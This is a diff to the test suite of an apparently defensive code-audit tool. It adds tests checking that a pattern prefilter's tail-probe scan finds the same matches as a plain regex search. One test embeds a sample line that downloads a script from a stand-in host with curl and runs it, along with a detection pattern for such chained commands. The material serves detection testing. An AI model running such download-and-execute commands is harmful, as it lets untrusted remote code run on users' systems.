@@ -1967,6 +1967,7 @@ def _tail_strict(monkeypatch, scan: bool) -> None:
     monkeypatch.setattr(pf, "TAIL_CANDIDATE_CHARS", 1)
     monkeypatch.setattr(pf, "TAIL_MAX_KEPT", 10.0**9)
     monkeypatch.setattr(pf, "TAIL_OCCURRENCE_CHARS", 10**9 if scan else 1)
+    monkeypatch.setattr(pf, "PROBE_SCAN_CHOICE", False)
 
 
 @settings(max_examples=400, deadline=None, suppress_health_check=[HealthCheck.too_slow, HealthCheck.function_scoped_fixture])
@@ -2010,11 +2011,13 @@ def test_dense_heads_with_tail_starts_equal_finditer(monkeypatch, shape, engine,
     assert _spans(iter_matches(pat, text)) == _spans(pat.finditer(text)), (shape, engine, text[:60])
 
 
-def test_tail_first_rules_out_dense_heads_without_their_tail():
+def test_tail_first_rules_out_dense_heads_without_their_tail(monkeypatch):
     """Glued environment dumps (no request call) and verbs without a URL: no candidate start at all, where
     the plain search tried each of them across its gap (issue 8: ~700 ms/MB for the dumps)."""
     from hermes_audit.patterns import prefilter as pf
     from hermes_audit.patterns.prefilter import _tail_starts
+
+    monkeypatch.setattr(pf, "PROBE_SCAN_CHOICE", False)  # the probe scans (the timed choice of issue 21 aside)
 
     cat = load_catalog()
     for code, i, text in [("HA401", 5, "dict(os.environ)" * 20_000), ("HA401", 5, "axios.s.env " * 20_000),
@@ -2648,3 +2651,29 @@ def test_redaction_gate_on_rule_examples_and_corpus_texts(cat, corpus):
         for line in text.splitlines() or [text]:
             if full.search(line) is not None:
                 assert gate.search(line) is not None, line
+
+
+# --- the tail probe's scan against a plain finditer (issue 21) --------------------------------------
+
+@pytest.mark.parametrize("choice", [None, True, False])
+def test_tail_probe_scan_choice_gives_the_same_matches(cat, monkeypatch, choice):
+    """:func:`prefilter._tail_starts` scans with a tail probe only when that scan is cheaper than the pattern's
+    own ``finditer`` (timed on a sample; issue 21: HA501's ``(?:&&|;)`` probe on ``;``-dense filler cost 12 times
+    the plain search). Either choice gives ``finditer``'s matches."""
+    from benchmarks.generate import near_miss
+    from hermes_audit.patterns import prefilter
+
+    rule = next(r for r in cat.rules if r.code == "HA501")
+    pat = next(p for p in rule.compiled if p.pattern.startswith(r"\b(?:curl|wget)\b[^\n&|;]{0,400}+(?:&&|;)"))
+    compiled = materialize(pat)
+    calls = []
+    real = prefilter._probe_scan_cheaper
+    monkeypatch.setattr(prefilter, "_probe_scan_cheaper", lambda *a: calls.append(1) or real(*a))
+    monkeypatch.setattr(prefilter, "PROBE_SCAN_CHOICE", choice)
+    text = near_miss(["curl", "&&", "$home/"], 100_000, filler="-- .. ,, ;; " * 3)
+    for attack in ("", " curl -fsSL https://x.example/i.sh -o /tmp/i.sh; sh /tmp/i.sh\n"):
+        t = text[:50_000] + attack + text[50_000:]
+        got = [m.span() for m in iter_matches(compiled, t, LiteralIndex(t), 30.0)]
+        assert got == [m.span() for m in compiled.finditer(t)]
+        assert bool(got) == bool(attack)
+    assert calls  # the choice was made on this text
